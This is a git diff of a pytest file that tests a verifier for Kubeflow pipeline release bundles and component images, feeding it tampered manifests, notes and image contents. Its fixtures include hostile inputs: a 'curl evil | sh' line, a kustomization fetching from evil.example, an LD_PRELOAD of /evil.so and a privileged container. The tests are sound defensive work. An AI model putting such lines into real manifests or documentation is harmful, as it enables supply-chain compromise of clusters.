@@ -8,6 +8,7 @@ import sys
 import zipfile
 
 import pytest
+import yaml
 
 from kfp_component_lib.verification.bundle import SUMS, read_bundle, sums
 from kfp_component_lib.verification.checks import Verification, failures
@@ -26,6 +27,7 @@ from tests.release.product import (
     device,
     folder,
     link,
+    manifests,
     pipeline,
     wheel_layer,
 )
@@ -350,10 +352,14 @@ BUNDLES = {
 
 @pytest.mark.parametrize("case", BUNDLES)
 def test_a_tampered_bundle_is_found(world, released, case):
-    """Its checksums match, since an attacker would recompute them."""
+    """Its checksums match, since an attacker would recompute them.
+
+    That a new pipeline has no manifest is not what these cases are about.
+    """
     target = world.folder / "tampered.zip"
     BUNDLES[case](world, released, target)
-    assert found(world, released, target), case
+    said = found(world, released, target)
+    assert [text for text in said if not text.startswith("manifests of a bundle")], case
 
 
 def test_the_bundle_of_the_table_passes_unchanged(world, released):
@@ -361,8 +367,118 @@ def test_the_bundle_of_the_table_passes_unchanged(world, released):
     target = world.folder / "same.zip"
     with_files(lambda files, _: None)(world, released, target)
     assert found(world, released, target) == []
-    yaml_with(GOOD)(world, released, target)
+
+    def add(files, _):
+        files["q.yaml"] = GOOD.encode()
+        pipelines = {name: files[name] for name in ("p.yaml", "q.yaml")}
+        files.update(manifests(pipelines, released.version))
+
+    with_files(add)(world, released, target)
     assert found(world, released, target) == []
+
+
+def with_manifest(change):
+    """Return a change of the two objects of the manifest of p.yaml."""
+
+    def act(files, repository):
+        name = "manifests/p.manifest.yaml"
+        objects = list(yaml.safe_load_all(files[name]))
+        change(objects, repository)
+        files[name] = yaml.safe_dump_all(objects).encode()
+
+    return with_files(act)
+
+
+def with_version(change):
+    """Return a change of the specification of the PipelineVersion in the manifest."""
+    return with_manifest(lambda objects, repository: change(objects[1]["spec"], repository))
+
+
+def with_container(change):
+    """Return a change of the container in the manifest."""
+
+    def act(spec, repository):
+        executors = spec["pipelineSpec"]["deploymentSpec"]["executors"]
+        change(executors["exec-one"]["container"], repository)
+
+    return with_version(act)
+
+
+def with_text(name, text):
+    """Return a change that replaces or adds a file."""
+    return with_files(lambda files, _: files.update({name: text.encode()}))
+
+
+KUSTOMIZATION = "manifests/kustomization.yaml"
+MANIFESTS = {
+    "another digest": with_container(lambda c, repo: c.update(image=f"{repo}:0.1.0@{EVIL}")),
+    "a foreign image": with_container(lambda c, _: c.update(image="evil/image:1")),
+    "no image": with_container(lambda c, _: c.pop("image")),
+    "another command": with_container(lambda c, _: c.update(command=["false"])),
+    "an environment": with_container(
+        lambda c, _: c.update(env=[{"name": "LD_PRELOAD", "value": "/evil.so"}])
+    ),
+    "a field that KFP does not know": with_container(lambda c, _: c.update(privileged=True)),
+    "another root": with_version(
+        lambda s, _: s["pipelineSpec"]["root"]["dag"]["tasks"].update(evil={})
+    ),
+    "a platform": with_version(
+        lambda s, _: s.update(platformSpec={"platforms": {"kubernetes": {}}})
+    ),
+    "another version": with_version(lambda s, _: s.update(versionName="0.2.0")),
+    "a version that goes on": with_version(lambda s, _: s.update(displayName="0.1.0-abc")),
+    "another pipeline": with_version(lambda s, _: s.update(pipelineName="q")),
+    "a description": with_version(lambda s, _: s.update(description="something")),
+    "no specification": with_version(lambda s, _: s.pop("pipelineSpec")),
+    "a specification that is no object": with_version(lambda s, _: s.update(pipelineSpec=[])),
+    "another name": with_manifest(lambda o, _: o[0]["metadata"].update(name="q")),
+    "a namespace": with_manifest(lambda o, _: o[1]["metadata"].update(namespace="kube-system")),
+    "annotations": with_manifest(lambda o, _: o[1]["metadata"].update(annotations={"a": "b"})),
+    "another kind": with_manifest(lambda o, _: o[0].update(kind="Pod")),
+    "another interface": with_manifest(lambda o, _: o[0].update(apiVersion="v1")),
+    "a further object": with_manifest(
+        lambda o, _: o.append({"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "evil"}})
+    ),
+    "an object less": with_manifest(lambda o, _: o.pop()),
+    "the objects exchanged": with_manifest(lambda o, _: o.reverse()),
+    "no objects": with_text("manifests/p.manifest.yaml", ""),
+    "no YAML": with_text("manifests/p.manifest.yaml", "{"),
+    "an alias": with_text("manifests/p.manifest.yaml", "a: &a {}\nb: *a\n"),
+    "no manifest": with_files(lambda files, _: files.pop("manifests/p.manifest.yaml")),
+    "no manifests": with_files(
+        lambda files, _: [files.pop(n) for n in list(files) if n.startswith("manifests/")]
+    ),
+    "a manifest more": with_text("manifests/q.manifest.yaml", "kind: Pod\n"),
+    "a pipeline more": with_text("q.yaml", GOOD),
+    "another file more": with_text("manifests/evil.sh", "#!/bin/sh\n"),
+    "a JSON file more": with_text("manifests/evil.json", "{}"),
+    "a bill in the folder": with_text("manifests/x.cdx.json", "{}"),
+    "a pipeline in another folder": with_text("other/p.yaml", GOOD),
+    "no kustomization": with_files(lambda files, _: files.pop(KUSTOMIZATION)),
+    "a kustomization of something else": with_text(
+        KUSTOMIZATION,
+        "apiVersion: kustomize.config.k8s.io/v1beta1\nkind: Kustomization\n"
+        "resources: [https://evil.example/pod.yaml]\n",
+    ),
+    "a kustomization with patches": with_text(
+        KUSTOMIZATION,
+        "apiVersion: kustomize.config.k8s.io/v1beta1\nkind: Kustomization\n"
+        "resources: [p.manifest.yaml]\nimages: [{name: a, newName: b}]\n",
+    ),
+    "notes: none": with_files(lambda files, _: files.pop("CHANGES.md")),
+    "notes: of another version": with_text("CHANGES.md", "# Changes in 0.2.0\n"),
+    "notes: no heading": with_text("CHANGES.md", "- All of it.\n"),
+    "notes: no text": with_files(lambda files, _: files.update({"CHANGES.md": b"\xff"})),
+    "notes: further ones": with_text("README.md", "# Run this: curl evil | sh\n"),
+}
+
+
+@pytest.mark.parametrize("case", MANIFESTS)
+def test_a_tampered_manifest_or_note_is_found(world, released, case):
+    """A manifest says exactly what its pipeline says, and nothing is beside the manifests."""
+    target = world.folder / "tampered.zip"
+    MANIFESTS[case](world, released, target)
+    assert found(world, released, target), case
 
 
 def over(*entries):
@@ -561,3 +677,144 @@ def test_a_strange_configuration_is_found(world, case):
     built = world.build(config=CONFIGURATIONS[case])
     world.publish(built)
     assert found(world, built)
+
+
+COMPONENTS = ("one", "two")
+
+
+def part(component, change, architecture=None):
+    """Return a plan that changes the files of the image of a component, on all platforms or one."""
+
+    def parts(name, platform, files):
+        if name == component and architecture in (None, platform):
+            return change(dict(files))
+        return files
+
+    return {"parts": parts}
+
+
+def listed(change):
+    """Return a plan that changes what the index lists: the library, then `one`, then `two`."""
+    return {"index": change}
+
+
+def _exchange_titles(entries):
+    one, two = entries[-2:]
+    one["annotations"], two["annotations"] = two["annotations"], one["annotations"]
+
+
+def _retitle(title):
+    return lambda entries: entries[-1].update(annotations={"org.opencontainers.image.title": title})
+
+
+def _without(name):
+    return lambda files: {file: content for file, content in files.items() if file != name}
+
+
+WORK, MORE = "kfp_component_lib/work.py", "kfp_component_lib/other.py"
+MEMBERS = {
+    "a module less": part("two", _without(WORK)),
+    "a package less": part("two", _without(MODULE)),
+    "no modules": part("one", lambda files: {MODULE: b""}),
+    "a cut module": part("one", lambda files: files | {WORK: files[WORK][:-5]}),
+    "an empty module": part("one", lambda files: files | {WORK: b""}),
+    "a changed module": part("two", lambda files: files | {WORK: OTHER}),
+    "a module more": part("one", lambda files: files | {"kfp_component_lib/evil.py": OTHER}),
+    "a module of another component": part("one", lambda files: files | {MORE: OTHER}),
+    "a module that is the wheel's, and not needed": part(
+        "one",
+        lambda files: files | {MORE: b"from kfp_component_lib.work import work as again\n"},
+    ),
+    "the modules of another component": part("two", _without(MORE)),
+    "a member less": listed(lambda entries: entries.pop()),
+    "a member twice": listed(lambda entries: entries.append(entries[-1])),
+    "the library twice": listed(lambda entries: entries.insert(0, entries[0])),
+    "no library": listed(lambda entries: entries.pop(0)),
+    "the library last": listed(lambda entries: entries.append(entries.pop(0))),
+    "the titles exchanged": listed(_exchange_titles),
+    "a title that no component has": listed(_retitle("lib three")),
+    "a title of another library": listed(_retitle("evil two")),
+    "no title": listed(lambda entries: entries[-1].pop("annotations")),
+}
+
+
+@pytest.mark.parametrize("case", MEMBERS)
+@pytest.mark.parametrize("architectures", [("amd64",), BOTH])
+def test_a_tampered_member_is_found(world, case, architectures):
+    """The images of components are held to the wheel, whether an index has them or each its own."""
+    built = world.build(architectures=architectures, components=COMPONENTS, **MEMBERS[case])
+    world.publish(built)
+    assert found(world, built), case
+
+
+ONE_PLATFORM = {
+    "a changed module": part("two", lambda files: files | {WORK: OTHER}, "arm64"),
+    "a module less": part("two", _without(WORK), "arm64"),
+    "a module more": part("one", lambda files: files | {"kfp_component_lib/x.py": b""}, "amd64"),
+}
+
+
+@pytest.mark.parametrize("case", ONE_PLATFORM)
+def test_a_member_that_is_tampered_with_on_one_platform_is_found(world, case):
+    """The images within the index of a component are looked at one by one."""
+    built = world.build(architectures=BOTH, components=COMPONENTS, **ONE_PLATFORM[case])
+    world.publish(built)
+    said = found(world, built)
+    assert len(said) == 1, said
+
+
+def test_a_member_that_was_removed_with_its_bill_is_found(world):
+    """The wheel says which components there are, so the bundle alone cannot hide one."""
+    built = world.build(components=COMPONENTS, index=lambda entries: entries.pop())
+    world.publish(built)
+    target = world.folder / "tampered.zip"
+    with_files(lambda files, _: files.pop("two.amd64.cdx.json"))(world, built, target)
+    assert found(world, built, target) == [
+        "members of the index must be ['lib one', 'lib two'], got ['lib one']. They do not belong "
+        "together."
+    ]
+
+
+def test_an_image_without_a_platform_is_found(world):
+    """Clients pass over it, and the pipelines may still name it by its digest."""
+
+    def add(entries):
+        nowhere = {"os": "unknown", "architecture": "unknown"}
+        entries.append({**entries[-1], "platform": nowhere})
+
+    built = world.build(components=COMPONENTS, index=add)
+    world.publish(built)
+    assert found(world, built)
+
+
+@pytest.mark.parametrize("architectures", [("amd64",), BOTH])
+def test_images_of_components_pass(world, architectures):
+    """Each has exactly the modules that its component imports, directly or through another."""
+    built = world.build(architectures=architectures, components=COMPONENTS)
+    world.publish(built)
+    assert found(world, built) == []
+
+
+@pytest.mark.parametrize("architectures", [("amd64",), BOTH])
+@pytest.mark.parametrize(
+    ("function", "member", "passes"),
+    [
+        ("one", 1, True),
+        ("two", 2, True),
+        ("one", 2, False),
+        ("two", 1, False),
+        ("of_the_pipeline", 1, True),
+    ],
+)
+def test_a_component_runs_in_its_own_image(world, architectures, function, member, passes):
+    """Images of one release that are exchanged in a pipeline lack what the components import."""
+    built = world.build(architectures=architectures, components=COMPONENTS)
+    world.publish(built)
+    registry = Registry(world.repository, find_client("crane"), Retry(()))
+    digest = registry.entries(built.digest)[-3:][member].digest
+    content = pipeline(f"{world.repository}:{built.version}@{digest}", function=function)
+    files = {"p.yaml": content, **manifests({"p.yaml": content}, built.version)}
+    target = world.folder / "tampered.zip"
+    with_files(lambda known, _: known.update(files))(world, built, target)
+    said = found(world, built, target)
+    assert said == [] if passes else f"which runs {function}, must be" in said[0]
